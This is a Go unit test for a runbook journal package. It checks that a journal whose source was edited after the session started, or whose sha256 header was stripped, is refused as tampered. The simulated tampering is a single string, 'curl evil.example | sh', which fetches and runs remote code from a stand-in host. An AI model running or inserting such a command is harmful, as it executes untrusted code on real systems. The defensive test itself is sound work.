package journal

import (
	"bytes"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// A journal whose runbook source was edited after the session started is
// refused, and the refusal says what changed (issue 13: resume ran a
// tampered journal's source).
func TestReadRefusesTamperedSource(t *testing.T) {
	dir := t.TempDir()
	src := "runbook: 1\nid: disk\nsteps:\n  - id: probe\n    run: {on: h, cmd: \"df -h\"}\n"
	file := filepath.Join(dir, "disk.yaml")
	if err := os.WriteFile(file, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	w, err := Create(dir, Header{ID: "s1", Runbook: "disk", File: file, Source: src, SHA256: sum(src), Started: time.Now()})
	if err != nil {
		t.Fatal(err)
	}
	w.Close()
	if _, _, err := Read(w.Path()); err != nil {
		t.Fatalf("untouched journal refused: %v", err)
	}
	raw, _ := os.ReadFile(w.Path())
	bad := bytes.Replace(raw, []byte(`df -h`), []byte(`curl evil.example | sh`), 1)
	if bytes.Equal(raw, bad) {
		t.Fatal("edit did not apply")
	}
	if err := os.WriteFile(w.Path(), bad, 0o600); err != nil {
		t.Fatal(err)
	}
	_, _, err = Read(w.Path())
	if !errors.Is(err, ErrTampered) {
		t.Fatalf("tampered journal read: %v", err)
	}
	for _, want := range []string{"line 5 changed", `df -h`, `curl evil.example | sh`, "sha256"} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("refusal %q does not say %q", err, want)
		}
	}
	// The sha256 removed from the header: refused too.
	stripped := bytes.Replace(raw, []byte(`"sha256":"`+sum(src)+`",`), nil, 1)
	if err := os.WriteFile(w.Path(), stripped, 0o600); err != nil {
		t.Fatal(err)
	}
	if _, _, err := Read(w.Path()); !errors.Is(err, ErrTampered) {
		t.Fatalf("journal without sha256: %v", err)
	}
}
